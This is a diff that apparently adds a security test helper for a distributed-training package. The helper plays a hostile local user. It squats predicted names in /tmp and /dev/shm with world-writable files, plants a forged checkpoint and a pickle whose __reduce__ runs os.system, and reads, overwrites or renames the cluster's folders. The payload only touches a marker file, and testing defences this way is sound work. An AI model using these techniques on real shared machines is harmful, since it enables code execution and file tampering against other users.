@@ -1,0 +1,138 @@
+"""Another Unix user, who wants to read a cluster's files, or to have his own loaded.
+
+    python -m tests.security.file_stranger MARKER
+
+Until its standard input closes, it looks at the names in /tmp and /dev/shm and at the
+command lines of all processes, and takes, links and opens every name that it finds or
+can think of. Then it prints one line of JSON: what it got hold of.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import io
+import json
+import os
+import pickle
+import re
+import select
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+
+import torch
+
+from nbdist.training import checkpoint
+
+SHARED = (Path("/tmp"), Path("/dev/shm"))
+OURS = re.compile(r"nbdist[\w.-]*")
+ENDINGS = ("commit", "resume", "variables", "memory", "reserve")
+INSIDE = ("", "commit", "places.json", "security/ipcontroller-client.json", "output")
+
+
+class Code:
+    """What runs a command where it is unpickled."""
+
+    def __init__(self, marker: str) -> None:
+        self._marker = marker
+
+    def __reduce__(self) -> tuple[object, ...]:
+        return os.system, (f"touch {self._marker}",)
+
+
+class Stranger:
+    """Takes part in nothing, and takes what it can."""
+
+    def __init__(self, marker: str) -> None:
+        payload = io.BytesIO()
+        torch.save({"step": Code(marker)}, payload)
+        forged = Path.cwd() / "forged"
+        header = {"commit": 10**6, "size": 2, "names": ["step"], "time": 1e9}
+        checkpoint.write(forged, header, payload.getvalue())
+        self._commit = forged.read_bytes()
+        self._pickle = pickle.dumps(Code(marker))
+        self._own: set[Path] = set()
+        self.got: set[str] = set()
+        self.tried = 0
+        for number in range(128):  # Open MPI's, if it is not told otherwise
+            self._take(Path(f"/dev/shm/open_mpi.{number:04}"))
+
+    def look_and_take(self) -> None:
+        """Once over all names that there are now."""
+        for name in set(self._names()):
+            for folder in SHARED:
+                self._enter(folder / name)
+                for predicted in self._predicted(name):
+                    self._take(folder / predicted)
+
+    def _names(self) -> Iterator[str]:
+        for folder in SHARED:
+            for name in os.listdir(folder):
+                if folder / name not in self._own:
+                    yield from OURS.findall(name)
+        for process in Path("/proc").glob("[0-9]*/cmdline"):
+            with contextlib.suppress(OSError):
+                text = (
+                    process.read_bytes().replace(b"\0", b" ").decode(errors="replace")
+                )
+                yield from OURS.findall(text)
+                yield f"torch_{process.parent.name}"
+
+    def _predicted(self, name: str) -> Iterator[str]:
+        yield name
+        for ending in ENDINGS:
+            yield f"{name}-{ending}"
+            yield f".{name}-{ending}"
+
+    def _take(self, path: Path) -> None:
+        """Put a forged file, open to all, where the cluster may want to put one."""
+        if path in self._own:
+            return
+        self.tried += 1
+        contents = self._commit if path.name.endswith("commit") else self._pickle
+        flags = os.O_CREAT | os.O_EXCL | os.O_WRONLY
+        with contextlib.suppress(OSError):
+            with os.fdopen(os.open(path, flags, 0o666), "wb") as file:
+                file.write(contents)
+            path.chmod(0o666)
+            self._own.add(path)
+
+    def _enter(self, folder: Path) -> None:
+        """Read, change or replace what a folder of the cluster's holds."""
+        if folder in self._own or not os.path.lexists(folder):
+            return
+        for name in INSIDE:
+            path = folder / name
+            with contextlib.suppress(OSError):
+                self.got.add(f"listed {path}: {os.listdir(path)}")
+            with contextlib.suppress(OSError):
+                self.got.add(f"read {path}: {path.read_bytes()[:100]!r}")
+            with contextlib.suppress(OSError):
+                path.write_bytes(self._commit)
+                self.got.add(f"wrote {path}")
+        with contextlib.suppress(OSError):
+            folder.rename(folder.with_name("taken"))
+            self.got.add(f"renamed {folder}")
+
+    def clean_up(self) -> None:
+        """Remove what was planted."""
+        for path in self._own:
+            path.unlink(missing_ok=True)
+
+
+def main() -> None:
+    """Take what there is until the input closes."""
+    stranger = Stranger(sys.argv[1])
+    print("looks", flush=True)
+    try:
+        while not select.select([sys.stdin], [], [], 0.005)[0]:
+            stranger.look_and_take()
+    finally:
+        stranger.clean_up()
+    print(
+        json.dumps({"got": sorted(stranger.got), "tried": stranger.tried}), flush=True
+    )
+
+
+if __name__ == "__main__":
+    main()
